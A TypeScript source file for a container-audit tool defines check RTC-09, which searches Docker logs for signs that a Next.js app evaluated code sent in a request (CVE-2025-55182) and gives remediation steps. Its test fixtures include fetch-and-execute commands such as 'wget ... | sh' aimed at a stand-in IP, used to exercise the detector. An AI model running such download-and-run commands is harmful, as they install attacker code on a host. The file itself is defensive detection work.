import { cannotTell, defineCheck, fail, type Outcome } from '../../core/check.js';
import { exampleRef, partlySeen, seen, unseen } from '../../core/example.js';
import { defaultPolicy } from '../../core/policy.js';
import { containers } from '../../facts/containers.js';
import { detections, type Evaluation } from '../../facts/detections.js';
import { exampleContainer } from '../../facts/examples.js';
import { logs } from '../../facts/logs.js';
import { policy } from '../../facts/policy.js';
import { exampleCall, exampleDetections } from '../shared/example-detections.js';
import { exampleLog, exampleShortLog } from '../shared/example-log.js';
import { quietLogs } from '../shared/judge-logs.js';
import { isLegitCommand } from '../shared/legit-subprocess.js';
import { type SameCalls, sameCalls } from '../shared/same-calls.js';

function fromEvaluation(found: Evaluation): Outcome {
  const times = found.count === 1 ? '' : ` ${found.count} times`;
  return fail(found.evidence, {
    subject: found.subject,
    what: `code from a request was evaluated${times} by ${found.package} (${found.advisory ?? 'through which hole is not known'}): ${found.frame}`,
    location: `${found.subject}, log line ${found.evidence[0].line ?? '?'}`,
  });
}

function fromCall({ call, count }: SameCalls, declared: readonly string[]): Outcome | null {
  const times = count === 1 ? '' : `, ${count} calls`;
  const at = `${call.at === null ? '' : ` at ${call.at.toISOString()}`}${times}`;
  const text = call.command.slice(0, 160);
  if (call.knownSink === null && (call.analysis.weight === null || call.analysis.weight === 'note')) {
    if (isLegitCommand(call.command, declared, call.analysis)) return null;
    return cannotTell('not-collected', `code that was evaluated at run time started \`${text}\`${at}`, {
      subject: call.subject,
      evidence: call.evidence,
      settle: 'Which module starts this command? If it is yours, list the program under subprocesses in candor.yaml.',
    });
  }
  const sink = call.knownSink ? ` through ${call.knownSink.package} (${call.knownSink.advisory})` : '';
  return fail(call.evidence, {
    subject: call.subject,
    what: `code that was evaluated at run time asked for \`${text}\`${at}${sink}; whether it ran: ${call.executed} (${call.executedBecause})`,
    location: `${call.subject}, log line ${call.evidence[0].line ?? '?'}`,
  });
}

/** RTC-09: code of a request that the app evaluated, by its stack (rule KNOWN_FRAME: `Object.eval [as then]`). */
export const attackerCodeWasEvaluated = defineCheck({
  id: 'RTC-09',
  title: 'The app evaluated code that came with a request',
  questions: ['Q4'],
  severity: 'critical',
  required: true,
  needs: { detections, containers, logs, policy },
  decide: (facts, context) => {
    const { evaluations, calls } = facts.detections.value;
    const own = calls.filter((call) => call.origin === 'evaluated' && !call.requestEcho);
    const found = [
      ...evaluations.map(fromEvaluation),
      ...sameCalls(own)
        .map((calls) => fromCall(calls, facts.policy.value.subprocesses))
        .filter((outcome) => outcome !== null),
    ];
    if (found.length > 0) return found;
    return quietLogs(facts.containers, facts.logs, context.windowSince, 'no stack shows code that a request brought');
  },
  whyItMatters:
    'A frame `eval at <anonymous>` below the server decoder of React is no bug and no supply chain: it is code of a stranger, running in your app, with all its secrets.',
  verifyByHand: 'docker logs --timestamps CONTAINER 2>&1 | grep -nE "eval at <anonymous>|Object\\.eval \\[as then\\]"',
  remediation: {
    text: 'Close the way in: the fixed version of Next.js, or no evaluation of what a request brings in your own route. Then rebuild from a clean image and change every secret that the app held.',
    commands: ['npm ls next react-server-dom-webpack', 'npm install next@latest && docker compose up -d --build'],
  },
  references: ['CVE-2025-55182', 'ATT&CK T1190'],
  examples: {
    pass: [
      { title: 'a quiet log of two days', facts: withDetections() },
      {
        title: "a bundler's own evaluated module asks git for the origin",
        facts: withDetections({
          calls: [exampleCall('git config --local --get remote.origin.url', { origin: 'evaluated' })],
        }),
      },
      {
        title: 'the text of a command stands in a request, and nothing was evaluated',
        facts: withDetections({
          calls: [exampleCall('wget -qO- http://203.0.113.9/a | sh', { origin: 'unknown', requestEcho: true })],
        }),
      },
      {
        title: 'no Node container',
        facts: { ...withDetections(), containers: seen([exampleContainer({ kinds: ['mongodb'] })]) },
        expect: 'not-applicable',
      },
    ],
    fail: [
      {
        title: 'an error below the React decoder',
        facts: withDetections({
          evaluations: [
            {
              subject: 'container:site-app-1',
              at: null,
              advisory: 'CVE-2025-55182',
              package: 'next',
              deed: null,
              frame: 'Object.eval [as then] (eval at <anonymous> (app-page.runtime.prod.js:25:34007))',
              count: 3,
              evidence: [exampleRef('docker.logs', 'container:site-app-1', 12)],
            },
          ],
        }),
      },
      {
        title: 'evaluated code fetches a program',
        facts: withDetections({
          calls: [exampleCall('wget http://203.0.113.9/x86 -O /tmp/x', { origin: 'evaluated', recursion: true })],
        }),
      },
    ],
    blind: [
      {
        title: 'no logs',
        facts: {
          detections: unseen(),
          containers: seen([exampleContainer()]),
          logs: unseen(),
          policy: seen(defaultPolicy),
        },
      },
      { title: 'the log begins an hour ago', facts: { ...withDetections(), logs: seen([exampleShortLog()]) } },
      { title: 'the log of the app is not there', facts: { ...withDetections(), logs: seen([]) } },
      {
        title: 'log driver none',
        facts: { ...withDetections(), containers: seen([exampleContainer({ logDriver: 'none' })]) },
      },
      { title: 'cut by a filter', facts: { ...withDetections(), detections: partlySeen(exampleDetections()) } },
      {
        title: 'the container is minutes old',
        facts: {
          ...withDetections(),
          logs: seen([exampleShortLog()]),
          containers: seen([exampleContainer({ createdAt: new Date('2026-11-20T11:50:00Z') })]),
        },
      },
    ],
  },
});

function withDetections(change: Parameters<typeof exampleDetections>[0] = {}) {
  return {
    detections: seen(exampleDetections(change)),
    containers: seen([exampleContainer()]),
    logs: seen([exampleLog()]),
    policy: seen(defaultPolicy),
  };
}
